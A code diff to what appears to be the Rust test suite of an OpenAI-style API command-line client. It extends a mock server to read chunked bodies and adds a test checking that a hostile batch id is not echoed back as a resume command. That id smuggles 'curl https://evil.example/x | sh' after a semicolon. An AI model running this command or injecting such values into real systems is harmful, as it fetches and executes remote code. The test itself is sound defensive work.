@@ -96,7 +96,7 @@ fn serve(
     let mut parts = line.split_whitespace();
     let method = parts.next().unwrap_or_default().to_owned();
     let path = parts.next().unwrap_or_default().to_owned();
-    let (mut length, mut key) = (0usize, String::new());
+    let (mut length, mut key, mut chunked) = (0usize, String::new(), false);
     loop {
         let mut header = String::new();
         if reader.read_line(&mut header).unwrap_or(0) == 0 || header == "\r\n" {
@@ -107,11 +107,29 @@ fn serve(
         match name.to_ascii_lowercase().as_str() {
             "content-length" => length = value.parse().unwrap_or(0),
             "authorization" => key = value.trim_start_matches("Bearer ").to_owned(),
+            "transfer-encoding" => chunked = value.eq_ignore_ascii_case("chunked"),
             _ => {}
         }
     }
-    let mut body = vec![0; length];
-    let _ = reader.read_exact(&mut body);
+    if chunked {
+        // Read (and drop) the chunks up to the last one.
+        loop {
+            let mut size = String::new();
+            if reader.read_line(&mut size).unwrap_or(0) == 0 {
+                break;
+            }
+            let size = usize::from_str_radix(size.trim(), 16).unwrap_or(0);
+            let mut chunk = vec![0; size + 2];
+            if size == 0 || reader.read_exact(&mut chunk).is_err() {
+                let mut rest = String::new();
+                let _ = reader.read_line(&mut rest);
+                break;
+            }
+        }
+    } else {
+        let mut body = vec![0; length];
+        let _ = reader.read_exact(&mut body);
+    }
     let seen = Seen { method, path, key };
     log.lock().unwrap().push(seen.clone());
     let mut conn = conn;
@@ -527,4 +545,55 @@ fn a_streamed_answer_is_kept_only_up_to_the_cap() {
         "{}",
         text(&out.stderr)
     );
+}
+
+#[test]
+fn a_batch_id_that_is_not_plain_is_never_offered_as_a_command() {
+    let id = "batch_1; curl https://evil.example/x | sh";
+    let server = Hostile::start(move |seen| {
+        match (seen.method.as_str(), seen.path.as_str()) {
+            ("POST", "/v1/files") => response(
+                "200 OK",
+                &[],
+                json!({"id": "file-1", "object": "file", "bytes": 10, "created_at": 1,
+                    "filename": "batch.jsonl", "purpose": "batch", "status": "processed"})
+                .to_string()
+                .as_bytes(),
+            ),
+            ("POST", "/v1/batches") => response(
+                "200 OK",
+                &[],
+                json!({"id": id, "object": "batch", "endpoint": "/v1/chat/completions",
+                    "input_file_id": "file-1", "completion_window": "24h",
+                    "status": "validating", "created_at": 1})
+                .to_string()
+                .as_bytes(),
+            ),
+            // Every poll fails.
+            _ => response("500 Internal Server Error", &[], b"{}"),
+        }
+    });
+    let dir = std::env::temp_dir().join(format!("oai-cli-hostile-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("requests.jsonl");
+    let line = json!({"custom_id": "a", "method": "POST", "url": "/v1/chat/completions",
+        "body": {"model": "m", "messages": [{"role": "user", "content": "x"}]}});
+    std::fs::write(&path, format!("{line}\n")).unwrap();
+    let key = fresh_key();
+    let out = oai(
+        &server.base_url,
+        &key,
+        &[
+            "batch",
+            "run",
+            path.to_str().unwrap(),
+            "--poll-seconds",
+            "0.05",
+        ],
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+    assert_eq!(code(&out), 6, "{}", text(&out.stderr));
+    let err = text(&out.stderr);
+    assert!(!err.contains("--resume batch_1"), "{err}");
+    assert_eq!(err.matches("not a plain id").count(), 2, "{err}");
 }
